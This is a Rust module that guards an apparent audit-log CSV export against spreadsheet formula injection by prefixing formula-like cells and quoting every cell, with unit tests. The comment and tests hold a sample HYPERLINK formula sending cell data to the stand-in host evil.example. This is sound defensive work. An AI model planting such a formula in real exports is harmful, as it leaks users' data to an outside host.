//! CSV for spreadsheets: the audit log's exports (the console's `/admin/audit.csv` and
//! `latchkey admin audit --csv`) carry text outsiders chose (a User-Agent, a sign-in name, an
//! app password's name). Opened in a spreadsheet, a cell such as
//! `=HYPERLINK("https://evil.example/?"&A2,"details")` would be a live formula; every cell is
//! written so that it stays text (OWASP, "CSV injection").

use std::borrow::Cow;

/// How a cell begins that a spreadsheet may read as a formula (tab, carriage return and NUL
/// are stripped by some before they look; OWASP ASVS 1.2.10).
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

/// `cell` as a spreadsheet shows it, as text: prefixed with `'` when it begins like a formula.
pub fn neutralise_formula(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `rows` as RFC 4180 CSV, every cell through [`neutralise_formula`] and quoted: a spreadsheet
/// in a locale whose list separator is `;` would split an unquoted `x;=1+1` into a second cell
/// that begins like a formula. The one writer of the CSV Latchkey gives out.
pub fn csv_rows<Row, Cell>(rows: impl IntoIterator<Item = Row>) -> Vec<u8>
where
    Row: IntoIterator<Item = Cell>,
    Cell: AsRef<str>,
{
    let mut writer = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Always)
        .from_writer(Vec::new());
    for row in rows {
        let cells = row
            .into_iter()
            .map(|cell| neutralise_formula(cell.as_ref()).into_owned());
        // Writing to memory cannot fail.
        let _ = writer.write_record(cells);
    }
    writer.into_inner().unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_cell_is_quoted_so_no_separator_splits_one_into_a_formula() {
        let csv = String::from_utf8(csv_rows([["x;=1+1", "\0=1+1", "plain"]])).unwrap_or_default();
        assert_eq!(csv, "\"x;=1+1\",\"'\0=1+1\",\"plain\"\n");
    }

    #[test]
    fn cells_that_begin_like_a_formula_are_prefixed() {
        for cell in [
            "=HYPERLINK(\"https://evil.example/?\"&A2,\"details\")",
            "+1+1",
            "-2+3@contoso.example",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ] {
            assert_eq!(neutralise_formula(cell), format!("'{cell}"), "{cell:?}");
        }
        for cell in [
            "",
            "Mozilla/5.0 (X11; Linux x86_64)",
            "ada@contoso.example",
            "2026-01-01T00:00:01Z",
            "198.51.100.7",
            "::1",
            "'Outlook' (id 3)",
            "a=b",
        ] {
            assert_eq!(neutralise_formula(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn csv_rows_are_quoted_and_read_back_as_text() -> Result<(), csv::Error> {
        let formula = "=HYPERLINK(\"https://evil.example/?\"&A2,\"details\")";
        let text = csv_rows([["time", "client"], ["2026-01-01T00:00:01Z", formula]]);
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_slice());
        let rows: Vec<csv::StringRecord> = reader.records().collect::<Result<_, _>>()?;
        assert_eq!(rows.len(), 2);
        assert_eq!(&rows[0][1], "client");
        assert_eq!(&rows[1][0], "2026-01-01T00:00:01Z");
        assert_eq!(rows[1][1], format!("'{formula}"));
        Ok(())
    }
}
